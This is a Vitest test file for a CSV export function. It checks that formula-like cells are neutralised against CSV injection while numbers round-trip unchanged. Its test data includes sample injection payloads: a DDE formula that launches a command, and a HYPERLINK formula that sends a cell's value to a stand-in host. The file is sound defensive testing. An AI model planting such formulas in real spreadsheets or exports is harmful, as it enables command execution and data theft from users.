import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { isFormulaLike, parseCsv, toCsv } from './index.ts';

const DANGEROUS = ["=cmd|' /C calc'!A0", '+1+2', '-2+3', '@SUM(A1:A9)', '=HYPERLINK("http://x.example/?a="&A1,"click")'];

describe('toCsv and formula cells (CSV injection)', () => {
  it('neutralises text cells a spreadsheet would run: a leading single quote, quoted', () => {
    const text = ['id,=SUM(A1),label', ...DANGEROUS.map((s, i) => `${i + 1},${i},"${s.replace(/"/g, '""')}"`)].join('\n');
    const d = parseCsv(text);
    expect(d.columns[2].categories).toHaveLength(DANGEROUS.length);
    const out = toCsv(d);
    const rows = Papa.parse<string[]>(out.trim()).data;
    expect(rows[0]).toEqual(['id', "'=SUM(A1)", 'label']);
    expect(out.split('\n')[0]).toBe(`id,"'=SUM(A1)",label`);
    expect(rows.slice(1).map((r) => r[2])).toEqual(DANGEROUS.map((s) => `'${s}`));
    // Every neutralised field is quoted in the file, so no cell starts with a formula character unquoted.
    for (const line of out.trim().split('\n').slice(1)) expect(line.split(',')[2][0]).toBe('"');
    // With raw, the cells are written exactly as stored and read back the same.
    const raw = toCsv(d, { raw: true });
    expect(
      Papa.parse<string[]>(raw.trim())
        .data.slice(1)
        .map((r) => r[2]),
    ).toEqual(DANGEROUS);
    expect(parseCsv(raw).columns[2].categories).toEqual(d.columns[2].categories);
  });

  it('leaves numbers and ordinary labels unchanged, so they round-trip', () => {
    const text = 'dose,sex,change,note\n-3,f,-0.5,ok\n2.5,m,+4,-3\n-1e-7,f,,"a, b"\n';
    const d = parseCsv(text);
    const out = toCsv(d);
    expect(out).toBe('dose,sex,change,note\n-3,f,-0.5,ok\n2.5,m,4,-3\n-1e-7,f,,"a, b"\n');
    const back = parseCsv(out);
    back.columns.forEach((c, j) => {
      expect(c.categories).toEqual(d.columns[j].categories);
      expect(Array.from(c.values)).toEqual(Array.from(d.columns[j].values));
    });
  });

  it("recognises the formula characters of OWASP's rule, and no plain number", () => {
    for (const s of ['=1', '+a', '-a', '@a', '\tx', '\rx', '-', '+']) expect(isFormulaLike(s), JSON.stringify(s)).toBe(true);
    for (const s of ['', 'a=1', '-3', '+4', '-0.5', '-1e5', ' =1', 'HYPERLINK("x")']) expect(isFormulaLike(s), JSON.stringify(s)).toBe(false);
  });
});
